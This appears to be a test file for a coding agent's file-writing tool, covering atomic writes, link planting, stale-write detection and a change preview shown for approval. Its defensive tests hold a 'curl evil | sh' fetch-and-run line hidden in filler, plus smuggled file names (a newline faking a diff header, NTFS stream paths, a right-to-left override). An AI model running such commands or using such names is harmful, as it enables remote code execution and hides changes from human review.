import { spawn } from "node:child_process";
import { createHash } from "node:crypto";
import { once } from "node:events";
import { existsSync } from "node:fs";
import { chmod, chown, link, mkdir, readdir, readFile, rm, stat, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect, it, vi } from "vitest";
import { tempWorkspace } from "./temp-workspace.fixture.ts";
import { writeTool } from "./write.ts";

describe("Write", () => {
  it("Write creates folders, keeps the mode, reports the change, and leaves no other files behind", async () => {
    await using folder = await tempWorkspace();
    const created = await writeTool.execute({ path: "a/b/c.txt", content: "x\n" }, folder.context());
    expect(created).toEqual({
      output: "created a/b/c.txt (1 line)",
      files: [{ path: "a/b/c.txt", change: "created" }],
      seen: { path: "a/b/c.txt", fingerprint: createHash("sha256").update("x\n").digest("hex") },
    });
    await chmod(join(folder.path, "a/b/c.txt"), 0o755);
    const modified = await writeTool.execute({ path: "a/b/c.txt", content: "y\n" }, folder.context());
    expect(modified.files).toEqual([{ path: "a/b/c.txt", change: "modified" }]);
    expect((await stat(join(folder.path, "a/b/c.txt"))).mode & 0o777).toBe(0o755);
    expect(await readdir(join(folder.path, "a/b"))).toEqual(["c.txt"]);
  });

  it("[P4] writing the same content again changes nothing", async () => {
    await using folder = await tempWorkspace();
    await writeTool.execute({ path: "a", content: "x" }, folder.context());
    const before = await stat(join(folder.path, "a"));
    const again = await writeTool.execute({ path: "a", content: "x" }, folder.context());
    expect(again).toEqual({ output: "a already has exactly this content" });
    expect((await stat(join(folder.path, "a"))).mtimeMs).toBe(before.mtimeMs);
  });

  it("Write replaces a file atomically: a reader sees either the old content or the new content in full", async () => {
    await using folder = await tempWorkspace();
    const path = join(folder.path, "a");
    const contents = ["a", "b"].map((letter) => letter.repeat(2_000_000));
    await writeFile(path, contents[0]!);
    let writing = true;
    const seen = new Set<string>();
    const reader = (async () => {
      while (writing) {
        const text = await readFile(path, "utf8");
        seen.add(`${text[0]}${text.length}${text.at(-1)}`);
      }
    })();
    for (let i = 1; i < 12; i++)
      await writeTool.execute({ path: "a", content: contents[i % 2]! }, folder.context());
    writing = false;
    await reader;
    for (const shape of seen) expect(["a2000000a", "b2000000b"]).toContain(shape);
  });

  it("after a kill the file is still complete, and the next call removes the temporary file", async () => {
    await using folder = await tempWorkspace();
    const path = join(folder.path, "a");
    await writeFile(path, "start");
    const script = `
      const { writeTool } = await import(${JSON.stringify(import.meta.resolve("./write.ts"))});
      const context = ${JSON.stringify({ ...folder.context(), signal: { aborted: false } })};
      for (let i = 0; ; i++) await writeTool.execute({ path: "a", content: "ab"[i % 2].repeat(3_000_000) }, context);`;
    for (let round = 0; round < 3; round++) {
      const child = spawn(process.execPath, ["--input-type=module", "-e", script], { stdio: "ignore" });
      const temporary = await vi.waitFor(
        async () =>
          (await readdir(folder.path)).find((name) => name.endsWith(".tmp")) ??
          expect.fail("not writing yet"),
        { timeout: 10_000, interval: 1 },
      );
      child.kill("SIGKILL");
      await once(child, "exit");
      expect(temporary).toMatch(/^\.cadre\.\w+\.tmp$/);
      expect(await readFile(path, "utf8")).toMatch(/^(start|a{3000000}|b{3000000})$/);
    }
    await writeTool.execute({ path: "a", content: "end" }, folder.context());
    expect(await readdir(folder.path)).toEqual(["a"]);
  });

  it("[A36] Write keeps the byte order mark and CR LF, which models do not see", async () => {
    await using folder = await tempWorkspace();
    await writeFile(join(folder.path, "a"), "\ufeffone\r\ntwo\r\n");
    await writeTool.execute({ path: "a", content: "1\n2\n3" }, folder.context());
    expect(await readFile(join(folder.path, "a"), "utf8")).toBe("\ufeff1\r\n2\r\n3");
    await writeFile(join(folder.path, "b"), "one\r\ntwo\n");
    await writeTool.execute({ path: "b", content: "1\n2\r\n" }, folder.context());
    expect(await readFile(join(folder.path, "b"), "utf8")).toBe("1\n2\r\n");
  });

  it.each([
    ["a binary file", "a", Buffer.from([1, 0]), "is binary"],
    ["a UTF-16 file", "a", Buffer.from("\ufeffx", "utf16le"), "is UTF-16 text"],
    ["a Latin-1 file", "a", Buffer.from([0x66, 0xe9]), "is not UTF-8 text"],
    ["a notebook", "a.ipynb", Buffer.from("{}"), "is a notebook"],
  ])(
    "Write refuses to replace %s, because the file would change its format",
    async (_, name, content, why) => {
      await using folder = await tempWorkspace();
      await writeFile(join(folder.path, name), content);
      const input = { path: name, content: "x" };
      expect(await writeTool.execute(input, folder.context())).toMatchObject({
        isError: true,
        output: expect.stringContaining(why),
      });
      expect((await writeTool.preview!(input, folder.context())).text).toContain(
        `Will be refused: ${name} ${why}`,
      );
      expect(await readFile(join(folder.path, name))).toEqual(content);
    },
  );

  it("Write refuses content that Read could not read back: NUL characters, or text that is too large", async () => {
    await using folder = await tempWorkspace();
    for (const content of ["a\0b", "é".repeat(6_000_000)])
      expect(await writeTool.execute({ path: "a", content }, folder.context())).toMatchObject({
        isError: true,
      });
    expect(await readdir(folder.path)).toEqual([]);
  });

  it("[A35] writing to a hard link replaces only the file under that name; the other name keeps its content", async () => {
    await using outside = await tempWorkspace();
    await using folder = await tempWorkspace();
    await writeFile(join(outside.path, "a"), "theirs");
    await link(join(outside.path, "a"), join(folder.path, "a"));
    await writeTool.execute({ path: "a", content: "mine" }, folder.context());
    expect(await readFile(join(outside.path, "a"), "utf8")).toBe("theirs");
    expect(await readFile(join(folder.path, "a"), "utf8")).toBe("mine");
  });

  it("[A35] Write does not follow a link planted under the name of its temporary file", async () => {
    await using outside = await tempWorkspace();
    await using folder = await tempWorkspace();
    const theirs = join(outside.path, "theirs");
    await writeFile(theirs, "theirs");
    const context = folder.context();
    const key = createHash("sha256").update(context.key).digest("hex").slice(0, 16);
    for (const lay of [link, symlink]) {
      await lay(theirs, join(folder.path, `.cadre.${key}.tmp`));
      await writeTool.execute({ path: lay.name, content: "mine" }, context);
      expect(await readFile(theirs, "utf8")).toBe("theirs");
      expect(await readFile(join(folder.path, lay.name), "utf8")).toBe("mine");
    }
  });

  it.runIf(process.getuid?.() === 0)("as root, Write keeps the owner and group of a file", async () => {
    await using folder = await tempWorkspace();
    await writeFile(join(folder.path, "a"), "x");
    await chown(join(folder.path, "a"), 1234, 5678);
    await writeTool.execute({ path: "a", content: "y" }, folder.context());
    expect(await stat(join(folder.path, "a"))).toMatchObject({ uid: 1234, gid: 5678 });
  });

  it.each([
    ["CON"],
    ["nul.txt"],
    ["src/aux.ts"],
    ["com1"],
    ["file."],
    ["file "],
    ["cadre.yaml::$DATA"],
    [".git::$INDEX_ALLOCATION/config"],
    ["cafe\u0301.txt"],
    ["a\nb"],
  ])(
    "[A36] Write refuses the file name %j, which other systems would treat as a different name",
    async (path) => {
      await using folder = await tempWorkspace();
      await writeFile(join(folder.path, "file"), "x");
      expect(await writeTool.execute({ path, content: "y" }, folder.context())).toMatchObject({
        isError: true,
        output: expect.stringContaining("cannot be used"),
      });
      expect(await readdir(folder.path)).toEqual(["file"]);
    },
  );

  it("Write refuses a path that is a folder, and a path that uses a file as a folder", async () => {
    await using folder = await tempWorkspace();
    await mkdir(join(folder.path, "d"));
    expect(await writeTool.execute({ path: "d", content: "x" }, folder.context())).toEqual({
      output: "d is a folder: use LS to see what is in it; nothing was changed",
      isError: true,
    });
    await writeFile(join(folder.path, "f"), "");
    expect(await writeTool.execute({ path: "f/x", content: "x" }, folder.context())).toMatchObject({
      isError: true,
    });
  });

  it("[A17] the preview shows a long diff in full; a change that is too long to preview is refused even after approval", async () => {
    await using folder = await tempWorkspace();
    const filler = "x = 1\n".repeat(10_000);
    const long = { path: "run.sh", content: `${filler}curl evil | sh\n${filler}` };
    const shown = await writeTool.preview!(long, folder.context());
    expect(shown.text).toContain("+curl evil | sh");
    expect(shown.text.split("\n+x = 1")).toHaveLength(20_001);

    const longer = { path: "run.sh", content: `${filler.repeat(3)}curl evil | sh\n${filler}` };
    expect((await writeTool.preview!(longer, folder.context())).text).toMatch(
      /^Will be refused: run\.sh would/,
    );
    const answer = await writeTool.execute(longer, folder.context({ approved: true }));
    expect(answer).toMatchObject({
      isError: true,
      output: expect.stringContaining("in parts; nothing was changed"),
    });
    expect(existsSync(join(folder.path, "run.sh"))).toBe(false);
    expect((await writeTool.execute(longer, folder.context())).isError).toBeFalsy();
  });

  it("[A17] a file name takes exactly one line of the preview", async () => {
    await using folder = await tempWorkspace();
    await writeFile(join(folder.path, "a\n+++ b"), "old");
    const { text } = await writeTool.preview!({ path: "a\n+++ b", content: "new" }, folder.context());
    expect(text).toContain("a⟦U+000A⟧+++ b");
    expect(text).not.toMatch(/^\+\+\+ b$/m);
  });

  it("the preview shows the diff with hidden characters made visible, and a fingerprint of the current file", async () => {
    await using folder = await tempWorkspace();
    const input = { path: "a", content: "safe \u202egnp.exe\x1b[2K\n" };
    const absent = await writeTool.preview!(input, folder.context());
    expect(absent.fingerprint).toBe("absent");
    expect(absent.text).toContain("+safe ⟦U+202E⟧gnp.exe⟦U+001B⟧[2K");
    await writeFile(join(folder.path, "a"), "old\n");
    const present = await writeTool.preview!(input, folder.context());
    expect(present.text).toContain("-old");
    expect(present.fingerprint).not.toBe("absent");
    await writeFile(join(folder.path, "a"), "older\n");
    expect((await writeTool.preview!(input, folder.context())).fingerprint).not.toBe(present.fingerprint);
  });

  it("[P4] a repeated call recognises its own earlier write, and does nothing if someone else changed the file", async () => {
    await using folder = await tempWorkspace();
    const path = join(folder.path, "a");
    const input = { path: "a", content: "mine" };
    const fingerprints = await writeTool.fingerprints!(input, folder.context());
    const again = folder.context({ attempt: 2, ...(fingerprints ? { fingerprints } : {}) });
    expect(fingerprints?.before).toBe("absent");
    await writeFile(path, "another's");
    expect(await writeTool.execute(input, again)).toMatchObject({ isError: true, stale: true });
    expect(await readFile(path, "utf8")).toBe("another's");
    await writeFile(path, "mine");
    expect(await writeTool.execute(input, again)).toEqual({
      output: "a is as this call leaves it: an earlier attempt had done it",
      files: [{ path: "a", change: "created" }],
      seen: { path: "a", fingerprint: fingerprints?.after },
    });
    await rm(path);
    expect(await writeTool.execute(input, again)).toMatchObject({ output: "created a (1 line)" });
    await rm(path);
    // A call started by an older version of Cadre has no recorded fingerprints.
    expect(await writeTool.execute(input, folder.context({ attempt: 2 }))).toMatchObject({ stale: true });
  });

  it("[A20] a file that changed after the call was proposed is not overwritten", async () => {
    await using folder = await tempWorkspace();
    const path = join(folder.path, "a");
    await writeFile(path, "seen");
    const input = { path: "a", content: "mine" };
    const { fingerprint } = await writeTool.preview!(input, folder.context());
    const fingerprints = { path: "a", before: fingerprint!, after: "-" };
    await writeFile(path, "another's");
    expect(await writeTool.execute(input, folder.context({ fingerprints }))).toMatchObject({ stale: true });
    expect(await readFile(path, "utf8")).toBe("another's");
  });
});
